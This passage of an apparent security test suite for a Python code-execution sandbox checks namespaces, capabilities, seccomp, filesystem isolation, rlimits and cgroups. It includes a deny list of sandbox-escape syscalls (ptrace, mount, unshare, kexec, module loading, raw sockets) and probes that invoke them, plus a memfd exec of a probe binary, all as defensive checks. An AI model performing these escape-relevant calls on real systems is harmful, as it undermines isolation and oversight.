        breach("the kernel shares these namespaces with the host side: %s" % ", ".join(same))


@case("layer-uid-caps-nnp", "layer", profiles=LAYER_PROFILES, control=True)
def _(t):
    """An unprivileged uid (not 0 seen from outside), no capabilities (CapEff, CapPrm, CapAmb
    all zero), no_new_privs set, seccomp in filter mode."""
    k, kp = layer_kernel(t)
    st = proc_status(kp) or {}
    bad = []
    uids = st.get("Uid", "").split()
    if not uids or "0" in uids:
        bad.append("uid %s" % st.get("Uid"))
    for c in ("CapEff", "CapPrm", "CapAmb"):
        if int(st.get(c, "1"), 16) != 0:
            bad.append("%s %s" % (c, st.get(c)))
    if st.get("NoNewPrivs") != "1":
        bad.append("NoNewPrivs %s" % st.get("NoNewPrivs"))
    if st.get("Seccomp") != "2":
        bad.append("Seccomp %s" % st.get("Seccomp"))
    if bad:
        breach("; ".join(bad))
    t.note("Uid %s CapBnd %s filters %s" % (st.get("Uid"), st.get("CapBnd"),
                                            st.get("Seccomp_filters")))


@case("layer-filesystem", "layer", profiles=LAYER_PROFILES)
def _(t):
    """A minimal root (not the host's: no /work, no planted /root secret), system directories
    read-only, the workspace a size-limited tmpfs as cwd, a private /tmp, a minimal /dev, a
    /proc of its own pid namespace."""
    k, kp = layer_kernel(t)
    root = "/proc/%d/root" % kp
    bad = []
    try:
        top = sorted(os.listdir(root))
    except OSError as e:
        error("cannot list the kernel's root: %s" % e)
    if os.path.exists(root + "/root/scsec-secret.txt"):
        bad.append("the host's /root is visible")
    if os.path.exists(root + "/tmp/scsec-host-secret.txt"):
        bad.append("the host's /tmp is visible")
    for d in ("gateway", "kernel"):
        if os.path.exists(os.path.join(root + t.ctx.bdir, d)):
            bad.append("the build tree's %s/%s is visible" % (t.ctx.bdir, d))
    mi = mountinfo(kp)
    by_mp = {m["mount_point"]: m for m in mi}
    for d in ("/usr", "/lib", "/etc", "/usr/lib/python3.11"):
        m = None
        for mp in sorted(by_mp, key=len, reverse=True):
            if d == mp or d.startswith(mp.rstrip("/") + "/"):
                m = by_mp[mp]
                break
        if m and "ro" not in m["opts"].split(","):
            bad.append("%s is writable (%s)" % (d, m["mount_point"]))
    cwd = os.readlink("/proc/%d/cwd" % kp) if os.path.exists("/proc/%d/cwd" % kp) else ""
    cm = by_mp.get(cwd)
    if not cm or cm["fstype"] != "tmpfs":
        bad.append("the workspace %s is not a tmpfs of its own (%s)" % (cwd, cm and cm["fstype"]))
    else:
        size = re.search(r"size=(\d+)k", cm["super"])
        lim = t.limit("disk")
        if not size or int(size.group(1)) * 1024 > lim:
            bad.append("the workspace tmpfs is not limited to %s (%s)" % (fmt_size(lim), cm["super"]))
    tm = by_mp.get("/tmp")
    if not tm or tm["fstype"] != "tmpfs":
        bad.append("/tmp is not a private tmpfs")
    try:
        devs = sorted(os.listdir(root + "/dev"))
        extra = [d for d in devs if d not in ("null", "zero", "full", "random", "urandom", "tty",
                                             "pts", "ptmx", "shm", "fd", "stdin", "stdout",
                                             "stderr", "mqueue", "console")]
        if extra:
            bad.append("/dev holds %s" % ", ".join(extra[:10]))
    except OSError as e:
        bad.append("cannot list its /dev: %s" % e)
    try:
        procs = [p for p in os.listdir(root + "/proc") if p.isdigit()]
        if len(procs) > t.limit("processes") + 4:
            bad.append("its /proc lists %d processes" % len(procs))
    except OSError as e:
        bad.append("cannot list its /proc: %s" % e)
    if bad:
        breach("; ".join(bad))
    t.note("root: %s" % " ".join(top)[:120])


@case("layer-rlimits", "layer", profiles=LAYER_PROFILES)
def _(t):
    """rlimits of the kernel process: CPU seconds, file size, open files, core dumps off, and
    an address-space or data limit near the memory limit."""
    k, kp = layer_kernel(t)
    lm = limits(kp)
    base = baseline(k)

    def val(name):
        v = lm.get(name, ("?",))[0]
        return None if v in ("unlimited", "?") else int(v)
    bad = []
    if val("Max cpu time") != t.limit("cpu_time"):
        bad.append("cpu %s (want %s)" % (lm.get("Max cpu time"), t.limit("cpu_time")))
    if val("Max file size") != t.limit("file_size"):
        bad.append("file size %s (want %s)" % (lm.get("Max file size"), t.limit("file_size")))
    nofile = val("Max open files")
    # +1: the kernel counts its descriptors with a directory stream open (one more).
    if nofile is None or nofile > base["maxfd"] + 2 + t.limit("open_files"):
        bad.append("open files %s (want <= %d: the kernel's highest descriptor %d + 2 + %d)" % (
            lm.get("Max open files"), base["maxfd"] + 2 + t.limit("open_files"), base["maxfd"],
            t.limit("open_files")))
    if val("Max core file size") != 0:
        bad.append("core %s" % (lm.get("Max core file size"),))
    a, d = val("Max address space"), val("Max data size")
    if a is None and d is None and not t.ctx.sanitizer_build:
        bad.append("no address-space or data limit")
    if bad:
        breach("; ".join(bad))
    t.note("as %s data %s nproc %s" % (lm.get("Max address space", ("?",))[0],
                                       lm.get("Max data size", ("?",))[0],
                                       lm.get("Max processes", ("?",))[0]))


@case("layer-cgroup", "layer", profiles=LAYER_PROFILES)
def _(t):
    """A memory cgroup limited to the profile's memory and a pids cgroup limited to its
    processes (cgroup v1 on this host), read from outside."""
    k, kp = layer_kernel(t)
    base = baseline(k)
    cg = read_text("/proc/%d/cgroup" % kp) or ""
    paths = {}
    for line in cg.splitlines():
        h, ctl, p = line.split(":", 2)
        for c in ctl.split(","):
            paths[c or "unified"] = p
    bad = []
    mp = paths.get("memory")
    if mp is None and "unified" in paths:
        v = read_text("/sys/fs/cgroup/unified%s/memory.max" % paths["unified"])
        if v is None or v.strip() == "max":
            bad.append("no memory limit (cgroup v2 %s)" % paths["unified"])
    elif mp in (None, "/"):
        bad.append("in the root memory cgroup")
    else:
        v = read_text("/sys/fs/cgroup/memory%s/memory.limit_in_bytes" % mp)
        want = t.limit("memory") + base["rss"] + (64 << 20)
        if v is None or int(v) > want:
            bad.append("memory.limit_in_bytes %s (want <= %d: the limit + the kernel's idle "
                       "%s + 64 MB)" % (v and v.strip(), want, fmt_size(base["rss"])))
        else:
            t.note("memory.limit_in_bytes %s = limit + %s (idle RSS %s)" % (
                fmt_size(int(v)), fmt_size(int(v) - t.limit("memory")), fmt_size(base["rss"])))
    pp = paths.get("pids")
    if pp in (None, "/"):
        bad.append("in the root pids cgroup")
    else:
        v = read_text("/sys/fs/cgroup/pids%s/pids.max" % pp)
        if v is None or v.strip() == "max":
            bad.append("pids.max %s" % (v and v.strip()))
        else:
            t.note("pids.max %s (processes %d + threads %d; %d tasks idle)" % (
                v.strip(), t.limit("processes"), t.limit("threads"), base["threads"] + base["procs"] - 1))
    if bad:
        breach("; ".join(bad))
    t.note("cgroups memory %s pids %s" % (mp, pp))


@case("layer-descriptors", "layer", profiles=LAYER_PROFILES)
def _(t):
    """The kernel holds no descriptor it should not: no TCP/UDP socket, nothing of the
    gateway's, only its own ipc endpoints as sockets."""
    k, kp = layer_kernel(t)
    bad = []
    kinds = {}
    for ino, (kind, pid, desc) in classify_sockets(k).items():
        if pid != kp:
            continue
        kinds[kind] = kinds.get(kind, 0) + 1
        if kind not in ("endpoint", "supervisor"):
            bad.append(desc)
    t.note("sockets: %s" % ", ".join("%d %s" % (n, kd) for kd, n in sorted(kinds.items())))
    from lib import fd_targets
    for fd, tgt in fd_targets(kp).items():
        if tgt.startswith("/") and (t.ctx.server.runtime_dir in tgt and "kernel-" in tgt):
            bad.append("fd %d -> %s" % (fd, tgt))
        if tgt.startswith(t.ctx.server.dir) and tgt.endswith(".log"):
            bad.append("fd %d -> %s" % (fd, tgt))
    if bad:
        breach("; ".join(sorted(set(bad))))
    t.note("%d fds" % len(fd_targets(kp)))


@case("layer-check-sandbox", "layer", profiles=("strict",), control=True)
def _(t):
    """GET /api/sandbox and `sandcell-kernel --check-sandbox --json` tell the truth: the layers
    they call active are active on a running kernel (observed from outside)."""
    r = t.ctx.server.request("GET", "/api/sandbox")
    if r.status != 200:
        breach("GET /api/sandbox: HTTP %d" % r.status)
    rep = r.json()
    layers = {x.get("name"): x.get("active") for x in rep.get("layers", [])}
    k, kp = layer_kernel(t)
    me = os.getpid()
    st = proc_status(kp) or {}
    observed = {
        "user namespace": ns_id(kp, "user") != ns_id(me, "user"),
        "pid namespace": ns_id(kp, "pid") != ns_id(me, "pid"),
        "mount namespace": ns_id(kp, "mnt") != ns_id(me, "mnt"),
        "net namespace": ns_id(kp, "net") != ns_id(me, "net"),
        "ipc namespace": ns_id(kp, "ipc") != ns_id(me, "ipc"),
        "uts namespace": ns_id(kp, "uts") != ns_id(me, "uts"),
        "cgroup namespace": ns_id(kp, "cgroup") != ns_id(me, "cgroup"),
        "no_new_privs": st.get("NoNewPrivs") == "1",
        "seccomp": st.get("Seccomp") == "2",
        "capabilities dropped": int(st.get("CapEff", "1"), 16) == 0,
    }
    lies = [n for n, act in layers.items() if act and n in observed and not observed[n]]
    if lies:
        breach("reported active but not in effect: %s" % ", ".join(lies))
    if not layers:
        breach("GET /api/sandbox lists no layers")
    strict = (rep.get("profiles") or {}).get("strict") or {}
    if strict.get("ok") is not True:
        breach("the strict profile is not available on this host: %s" % strict.get("missing"))
    import subprocess
    cr = subprocess.run([t.ctx.kernel_exe, "--check-sandbox", "--json"], stdout=subprocess.PIPE,
                        stderr=subprocess.PIPE, timeout=60)
    try:
        kj = __import__("json").loads(cr.stdout.decode())
    except ValueError:
        breach("--check-sandbox --json printed no JSON (exit %d): %r" % (cr.returncode, cr.stdout[:200]))
    kl = {x.get("name"): x.get("active") for x in kj.get("layers", [])}
    if kl != layers:
        diff = sorted(n for n in set(kl) | set(layers) if kl.get(n) != layers.get(n))
        breach("--check-sandbox and /api/sandbox disagree on: %s" % ", ".join(diff))
    inactive = sorted(n for n, a in layers.items() if not a)
    t.note("inactive layers: %s" % (", ".join(inactive) or "none"))


# =============================================================================================
# 11. The seccomp policy: denied syscalls give EPERM, not a crash; the kernel keeps answering
# =============================================================================================

# (name, number, args); 'SLEEPER' is replaced by the pid of a sleeper of the test. The
# arguments are ones that a root process without a sandbox would see fail harmlessly (ENOENT,
# EBADF, EINVAL...) or that only touch the calling process, so the control mode can run them.
DENIED = [
    ("socket-inet", 41, (2, 1, 0)),
    ("socket-inet6-udp", 41, (10, 2, 0)),
    ("socket-unix", 41, (1, 1, 0)),
    ("socket-netlink", 41, (16, 3, 0)),
    ("socket-packet", 41, (17, 3, 0x0300)),
    ("socket-raw", 41, (2, 3, 1)),
    ("socket-mptcp", 41, (2, 1, 262)),
    ("socket-vsock", 41, (40, 1, 0)),
    # socketpair(AF_UNIX) is allowed on purpose (asyncio needs one; net-socketpair checks
    # that such a pair reaches nobody); other families are refused.
    ("socketpair-inet", 53, (2, 1, 0, "BUF8")),
    ("ptrace-attach", 101, (16, "SLEEPER", 0, 0)),
    ("process-vm-readv", 310, ("SLEEPER", 0, 0, 0, 0, 0)),
    ("mount", 165, ("none", "/nonexistent-scsec", "tmpfs", 0, 0)),
    ("umount2", 166, ("/nonexistent-scsec", 0)),
    ("unshare-user", 272, (0x10000000,)),
    ("unshare-ns", 272, (0x00020000,)),
    ("setns", 308, (-1, 0)),
    ("pivot-root", 155, ("/nonexistent-a", "/nonexistent-b")),
    ("chroot", 161, ("/nonexistent-scsec",)),
    ("clone-newuser", 56, (0x10000000 | 0x200, 0, 0, 0, 0)),
    ("bpf", 321, (5, 0, 0)),
    ("keyctl", 250, (0, -2, 1)),
    ("add-key", 248, ("user", "scsec", "x", 1, -2)),
    ("request-key", 249, ("user", "scsec-none", 0, 0)),
    ("perf-event-open", 298, (0, 0, -1, -1, 0)),
    ("userfaultfd", 323, (0,)),
    ("personality", 135, (0x0040000,)),
    ("kexec-load", 246, (0, 0, 0, 0xdead0000)),
    ("kexec-file-load", 320, (-1, -1, 0, 0, 0xdead0000)),
    ("init-module", 175, (0, 0, "")),
    ("finit-module", 313, (-1, "", 0)),
    ("delete-module", 176, ("scsec_none", 0x800)),
    ("io-uring-setup", 425, (1, 0)),
    ("io-uring-enter", 426, (-1, 0, 0, 0, 0, 0)),
    ("io-uring-register", 427, (-1, 0, 0, 0)),
    ("open-by-handle-at", 304, (-1, 0, 0)),
    ("reboot", 169, (0, 0, 0, 0)),
    ("swapon", 167, ("/nonexistent-scsec", 0)),
    ("swapoff", 168, ("/nonexistent-scsec",)),
    ("acct", 163, ("/nonexistent-scsec",)),
    ("quotactl", 179, (0, 0, 0, 0)),
    ("iopl", 172, (4,)),
    ("ioperm", 173, (0x10000, 1, 1)),
    ("modify-ldt", 154, (0, "BUF8", 8)),
    ("syslog", 103, (3, "BUF8", 8)),
    ("fsopen", 430, ("tmpfs", 0)),
    ("fsmount", 432, (-1, 0, 0)),
    ("fspick", 433, (-100, "/nonexistent-scsec", 0)),
    ("open-tree", 428, (-100, "/nonexistent-scsec", 1)),
    ("move-mount", 429, (-1, "", -1, "", 0)),
    ("mount-setattr", 442, (-1, "", 0, 0, 0)),
    ("clock-settime", 227, (0, 0)),
    ("sethostname", 170, ("scpwn", 5)),
    ("kcmp", 312, (0, 0, 0, 0, 0)),
    ("fanotify-init", 300, (0, 0)),
    ("execve", 59, ("/nonexistent-scsec", 0, 0)),
]

ALLOWED = [
    ("getpid", 39, ()),
    ("getppid", 110, ()),
    ("uname", 63, ("BUF512",)),
    ("sched-yield", 24, ()),
    ("getrandom", 318, ("BUF8", 8, 0)),
    ("clock-gettime", 228, (1, "BUF8")),
    ("getcwd", 79, ("BUF512", 512)),
    ("mmap-anon", 9, (0, 4096, 3, 0x22, -1, 0)),
]


def probe_code(calls, sleeper):
    lines = []
    for name, nr, args in calls:
        a = []
        for x in args:
            if x == "SLEEPER":
                a.append(str(sleeper))
            elif x == "BUF8":
                a.append("('buf', 64)")
            elif x == "BUF512":
                a.append("('buf', 512)")
            else:
                a.append(repr(x))
        lines.append("_sys_try(%r, %d%s)" % (name, nr, "".join(", " + y for y in a)))
    return "\n".join(lines) + "\n"


def seccomp_probe(t, calls, expect_deny):
    """Runs the calls in kernels of the profile, one fresh kernel after any that dies."""
    sleeper = t.sleeper()
    todo = list(calls)
    results = {}
    died_on = []
    rounds = 0
    while todo and rounds < 12:
        rounds += 1
        k = t.kernel()
        o = t.run(k, probe_code(todo, sleeper), timeout=60)
        tries = o.tries()
        if tries and all(st == "EXC" and __import__("lib").os_refused(x)
                         for st, x in tries.values() if st != "TRY"):
            raise CaseSkip("native code cannot be loaded here (the OS refuses executable "
                           "mappings: %s), so syscall() cannot be called from Python; see "
                           "seccomp-strict-builtins" % next(iter(tries.values()))[1][:80])
        if not any(st in ("RET",) for st, _ in tries.values()):
            if o.died:
                died_on.append("%s (before any result: %s)" % (todo[0][0], o.summary(120)))
                todo = todo[1:]
                continue
            inconclusive("the syscall probe did not run: %s" % o.summary(300))
        rest = []
        for i, (name, nr, args) in enumerate(todo):
            st = tries.get(name)
            if st is None:
                rest = todo[i:]
                break
            if st[0] == "TRY":
                died_on.append("%s (the kernel died: %s)" % (name, o.error_text()[:100] or o.died))
                rest = todo[i + 1:]
                break
            results[name] = st
        todo = rest
        if not todo:
            p = k.alive_after()
            if p:
                breach("after the probe: %s" % p)
    bad = ["%s killed the kernel" % d for d in died_on]
    for name, nr, args in calls:
        st = results.get(name)
        if st is None:
            continue
        if st[0] == "EXC":
            inconclusive("the probe could not call %s: %s" % (name, st[1][:200]))
        m = re.search(r"ret=(-?\d+) errno=(\S+)", st[1])
        ret, en = int(m.group(1)), m.group(2)
        if expect_deny:
            if ret != -1:
                bad.append("%s succeeded (ret %d)" % (name, ret))
            elif en != "EPERM":
                bad.append("%s: %s" % (name, en))
        elif ret == -1:
            bad.append("%s failed: %s" % (name, en))
    if bad:
        breach("%d of %d: %s" % (len(bad), len(calls), "; ".join(bad)))
    t.note("%d syscalls %s" % (len(calls), "denied with EPERM" if expect_deny else "allowed"))


@case("seccomp-denied-eperm", "seccomp", control=True, timeout=180)
def _(t):
    """Every syscall the policy must deny (sockets of each family, ptrace, mount, unshare,
    setns, bpf, keyctl, io_uring, userfaultfd, perf_event_open, kexec, modules, personality,
    ...), each called through libc's syscall(): -1/EPERM, never SIGSYS; the kernel answers
    afterwards."""
    calls = [c for c in DENIED if not (t.profile == "permissive" and c[0] == "execve")]
    seccomp_probe(t, calls, True)


@case("seccomp-allowed", "seccomp", profiles=("strict", "moderate", "permissive"))
def _(t):
    """Sanity of the probe and of the policy: ordinary syscalls CPython needs succeed."""
    seccomp_probe(t, ALLOWED, False)


@case("seccomp-probe-c", "seccomp", profiles=("permissive",), needs=("probe",), timeout=120)
def _(t):
    """The C syscall probe (tests/security/syscall_probe.c), exec'd from a permissive kernel
    (directly from its read-only data dir, else from a memfd): the same denied list plus the
    i386 int 0x80 ABI, each -1/EPERM and never a SIGSYS kill."""
    with open(t.ctx.probe, "rb") as f:
        blob = f.read()
    sleeper = t.sleeper()
    k = t.kernel()
    o = t.run(k, """
O = _os()
def _run(path_or_fd):
    r, w = O.pipe()
    pid = O.fork()
    if pid == 0:
        try:
            O.dup2(w, 1)
            O.dup2(w, 2)
            if isinstance(path_or_fd, int):
                O.execve(path_or_fd, ['syscall_probe', '%d'], {})
            O.execv(path_or_fd, [path_or_fd, '%d'])
        finally:
            O._exit(127)
    O.close(w)
    out = b''
    while True:
        d = O.read(r, 65536)
        if not d:
            break
        out += d
    _, st = O.waitpid(pid, 0)
    return (st, out.decode(errors='replace'))
res = _try('exec-path', lambda: _run(%r), show=20000)
if isinstance(res, BaseException) or res[0] != 0:
    def _memfd():
        fd = O.memfd_create('scsec-probe', 0)
        O.write(fd, %r)
        return _run(fd)
    res = _try('exec-memfd', _memfd, show=20000)
""" % (sleeper, sleeper, t.ctx.probe, blob), timeout=90)
    text = o.stdout
    # The output arrives repr()'d (newlines as backslash-n): match the fields exactly.
    lines = re.findall(r"PROBE ([a-z0-9-]+) ret=(-?\d+) errno=([A-Z0-9]+)", text)
    if not lines:
        if "ERR exec" in text and "EPERM" in text:
            inconclusive("the permissive kernel cannot exec the probe: %s" % o.summary(200))
        inconclusive("the C probe produced no results: %s" % o.summary(300))
    want = set(n for n, _, _ in DENIED if n != "execve")
    if t.ctx.has("ia32") is True:
        want |= {"int80-getpid", "int80-kill"}
    else:
        t.note("int 0x80 not checked: closed on this host")
    got = {n: (int(r), e) for n, r, e in lines}
    bad = []
    for n in sorted(want):
        if n not in got:
            bad.append("%s missing (probe killed? status in output: %s)" % (n, re.findall(r"STATUS \S+", text)))
            continue
        r, e = got[n]
        if r != -1:
            bad.append("%s succeeded (%d)" % (n, r))
        elif e != "EPERM":
            bad.append("%s: %s" % (n, e))
    for n, r, e in lines:
        if n.startswith("allowed-") and int(r) == -1:
            bad.append("%s failed: %s" % (n, e))
    if bad:
        breach("; ".join(bad[:30]))
    t.note("%d results" % len(lines))


@case("seccomp-strict-builtins", "seccomp", profiles=("strict",), control=True)
def _(t):
    """Under strict no native code loads (no executable mappings), so the filter is probed with
    what the interpreter has built in: posix and _socket. Sockets of every family, fork,
    execve, chroot, mknod of a device, setuid/setgid(0), setgroups: each -1/EPERM, and the
    kernel answers afterwards."""
    k = t.kernel()
    o = t.run(k, """
O = _os()
S = _mod('_socket')
for fam, ty, pr in ((2, 1, 0), (2, 2, 0), (10, 1, 0), (1, 1, 0), (1, 2, 0), (16, 3, 0),
                    (17, 3, 0x300), (2, 3, 1), (2, 1, 262), (40, 1, 0)):
    _try('socket-%d-%d-%d' % (fam, ty, pr), lambda: _KEEP.append(S.socket(fam, ty, pr)))
_try('socketpair-inet', lambda: _KEEP.append(S.socketpair(2, 1, 0)))
_try('fork', lambda: O.fork() or O._exit(0))
_try('execve', lambda: O.execv('/nonexistent-scsec', ['x']))
_try('chroot', lambda: O.chroot('/tmp'))
_try('mknod-dev', lambda: O.mknod('scsec-dev', 0o20600, O.makedev(1, 3)))
_try('setuid0', lambda: O.setuid(0))
_try('setgid0', lambda: O.setgid(0))
_try('setgroups', lambda: O.setgroups([0]))
""")
    labels = [lb for lb in o.tries() if lb not in ("route-os",)]
    if o.died:
        breach("the kernel died during the probe: %s" % o.summary())
    t.check_denied(o, *labels, allowed=("EPERM",))
    t.note("%d calls denied with EPERM" % len(labels))
    t.check_kernel_ok(k)
